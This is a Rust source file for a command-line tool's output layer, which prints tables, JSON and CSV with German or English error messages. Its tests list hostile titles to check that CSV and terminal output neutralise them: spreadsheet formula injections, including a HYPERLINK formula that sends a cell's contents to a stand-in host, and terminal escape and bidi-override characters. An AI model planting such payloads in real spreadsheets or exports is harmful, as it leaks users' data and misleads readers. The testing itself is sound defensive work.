//! What a person or a program reads: data on standard output, talk on standard error, errors as what, why, what now.
use std::io::Write as _;

use comfy_table::{ContentArrangement, Table, presets};
use serde_json::{Value, json};

use crate::domain::characters::{printable, printable_lines};
use crate::domain::json::shown;
use crate::domain::reason::{Lang, Reason, Refusal};
use crate::domain::text::inert;

/// The form of data on standard output.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default, clap::ValueEnum)]
pub enum Format {
    /// Tables for people.
    #[value(help = "Tabellen für Menschen")]
    #[default]
    Table,
    /// JSON for programs.
    #[value(help = "JSON für Programme")]
    Json,
    /// Comma-separated values for spreadsheets (RFC 4180), with English column names.
    #[value(help = "CSV für Tabellenprogramme")]
    Csv,
}

/// Where and how to print.
#[derive(Clone, Copy, Debug, Default)]
pub struct Output {
    /// The form.
    pub format: Format,
    /// The language.
    pub lang: Lang,
}

impl Output {
    /// German or English.
    pub fn say<'t>(&self, de: &'t str, en: &'t str) -> &'t str {
        match self.lang {
            Lang::De => de,
            Lang::En => en,
        }
    }

    /// Prints rows: as a table, or as a JSON array of objects with the English column names.
    pub fn rows(&self, columns: &[(&str, &str)], rows: &[Vec<Value>]) -> Result<(), Refusal> {
        match self.format {
            Format::Json => {
                let objects: Vec<Value> = rows
                    .iter()
                    .map(|row| {
                        let pairs = columns.iter().zip(row).map(|((_, en), value)| ((*en).to_owned(), value.clone()));
                        Value::Object(pairs.collect())
                    })
                    .collect();
                data(&(shown(&Value::Array(objects)) + "\n"))
            }
            Format::Table => {
                let mut table = Table::new();
                table.load_style(presets::NOTHING).set_content_arrangement(ContentArrangement::Dynamic);
                table.set_header(columns.iter().map(|(de, en)| self.say(de, en).to_uppercase()));
                for row in rows {
                    table.add_row(row.iter().map(plain));
                }
                data(&format!("{table}\n"))
            }
            Format::Csv => {
                let header = columns.iter().map(|(_, en)| Value::from(*en)).collect();
                let lines = std::iter::once(&header).chain(rows).map(|cells| csv_line(cells));
                data(&lines.collect::<String>())
            }
        }
    }

    /// Prints one thing: its JSON, or its text. As CSV its plain fields are one row.
    pub fn one(&self, value: &Value, text: &str) -> Result<(), Refusal> {
        match self.format {
            Format::Json => data(&(shown(value) + "\n")),
            Format::Csv => {
                let fields = value.as_object().into_iter().flatten();
                let plain = fields.filter(|(_, value)| !value.is_array() && !value.is_object());
                let (names, cells): (Vec<Value>, Vec<Value>) =
                    plain.map(|(name, value)| (Value::from(name.as_str()), value.clone())).unzip();
                data(&format!("{}{}", csv_line(&names), csv_line(&cells)))
            }
            Format::Table => data(&format!("{}\n", printable_lines(text.trim_end()))),
        }
    }

    /// Prints a refusal: on standard error for people, as JSON on standard output for programs.
    pub fn refusal(&self, refusal: &Refusal) {
        let (reason, lang) = (refusal.reason, self.lang);
        match self.format {
            Format::Json => {
                let error = json!({"error": {
                    "reason": reason.code(),
                    "class": format!("{:?}", reason.class()),
                    "message": reason.text(lang),
                    "help": reason.help(lang),
                    "metadata": refusal.fields,
                }});
                let _ = data(&(shown(&error) + "\n"));
            }
            Format::Table | Format::Csv => self.talk(&error_text(refusal, lang)),
        }
    }

    /// Says something to the person, not to the program behind the pipe.
    pub fn talk(&self, text: &str) {
        let mut stderr = std::io::stderr().lock();
        // A closed standard error leaves nobody to tell.
        let _ = writeln!(stderr, "{}", printable_lines(text));
    }
}

/// A refusal in words: what, why, what now, code.
pub fn error_text(refusal: &Refusal, lang: Lang) -> String {
    let reason = refusal.reason;
    let (error, why, now, code, like) = match lang {
        Lang::De => ("Fehler:", "Grund:", "Abhilfe:", "Code:", "Gemeint vielleicht:"),
        Lang::En => ("Error:", "Why:", "What now:", "Code:", "Perhaps meant:"),
    };
    let mut text = format!("{error} {}\n", reason.text(lang));
    let said = match lang {
        Lang::De => refusal.field("why"),
        Lang::En => refusal.field("why_en").or_else(|| refusal.field("why")),
    };
    if let Some(said) = said {
        text.push_str(&format!("  {why:<9} {said}\n"));
    }
    let rest: Vec<String> = refusal
        .fields
        .iter()
        .filter(|(name, _)| !matches!(name.as_ref(), "why" | "why_en" | "like"))
        .map(|(name, value)| format!("{name}: {value}"))
        .collect();
    if !rest.is_empty() {
        text.push_str(&format!("  {why:<9} {}\n", rest.join(", ")));
    }
    text.push_str(&format!("  {now:<9} {}\n", reason.help(lang)));
    if let Some(names) = refusal.field("like") {
        text.push_str(&format!("  {:<9} {like} {names}\n", ""));
    }
    text.push_str(&format!("  {code:<9} {}", reason.code()));
    text
}

/// Writes to standard output; a reader that has gone away (`| head`) is no error.
pub fn data(text: &str) -> Result<(), Refusal> {
    let mut stdout = std::io::stdout().lock();
    match stdout.write_all(text.as_bytes()).and_then(|()| stdout.flush()) {
        Err(error) if error.kind() != std::io::ErrorKind::BrokenPipe => {
            Err(Refusal::new(Reason::FileUnwritable).with("file", "stdout").with("problem", error))
        }
        _ => Ok(()),
    }
}

fn plain(value: &Value) -> String {
    match value {
        Value::String(text) => printable(text),
        Value::Null => "–".to_owned(),
        Value::Bool(true) => "ja".to_owned(),
        Value::Bool(false) => "nein".to_owned(),
        other => other.to_string(),
    }
}

/// A value as spreadsheets may read it; nothing for null. Numbers stay numbers.
fn cell(value: &Value) -> String {
    match value {
        Value::String(text) => inert(&printable_lines(text)),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// One line of CSV (RFC 4180). A cell is quoted where it would otherwise be read as something else.
fn csv_line(cells: &[Value]) -> String {
    let quoted = |cell: String| match cell.contains(['"', ',', ';', '\t', '\n', '\r']) {
        true => format!("\"{}\"", cell.replace('"', "\"\"")),
        false => cell,
    };
    cells.iter().map(|value| quoted(cell(value))).collect::<Vec<_>>().join(",") + "\r\n"
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_with_a_comma_or_a_quote_is_one_cell() {
        let cells = [json!("a"), json!("b, c"), json!("d \"e\""), Value::Null];
        assert_eq!(csv_line(&cells), "a,\"b, c\",\"d \"\"e\"\"\",\r\n");
    }

    /// Titles as strangers have tried them.
    const HOSTILE: [(&str, &str, &str); 8] = [
        (
            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Wohngeld\"\")\"",
            "=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")",
        ),
        ("-2+3+cmd", "'-2+3+cmd", "-2+3+cmd"),
        ("@SUM(1+1)", "'@SUM(1+1)", "@SUM(1+1)"),
        ("＝1+1", "'＝1+1", "＝1+1"),
        ("Hund; =1+1", "\"Hund; '=1+1\"", "Hund; =1+1"),
        ("\nabc", "\"\nabc\"", "⟨U+000A⟩abc"),
        (
            "Wohngeld \u{202e}gnubegnarebeis\u{202c}",
            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
            "Wohngeld ⟨U+202E⟩gnubegnarebeis⟨U+202C⟩",
        ),
        ("\u{1b}[31mrot", "⟨U+001B⟩[31mrot", "⟨U+001B⟩[31mrot"),
    ];

    #[test]
    fn text_of_others_neither_acts_nor_hides_in_a_spreadsheet_or_a_terminal() {
        for (title, in_csv, in_table) in HOSTILE {
            assert_eq!(csv_line(&[json!(title), json!(-5)]), format!("{in_csv},-5\r\n"));
            assert_eq!(plain(&json!(title)), in_table);
            let text = shown(&json!({ "title": title }));
            assert!(!text.chars().any(|c| crate::domain::characters::hides(c) && c != '\n'), "{text}");
            let refusal = Refusal::new(Reason::FieldInvalid).with("value", title);
            let words = error_text(&refusal, Lang::De);
            assert!(words.contains(in_table) && !words.contains(['\u{1b}', '\u{202e}']), "{words}");
        }
    }
}
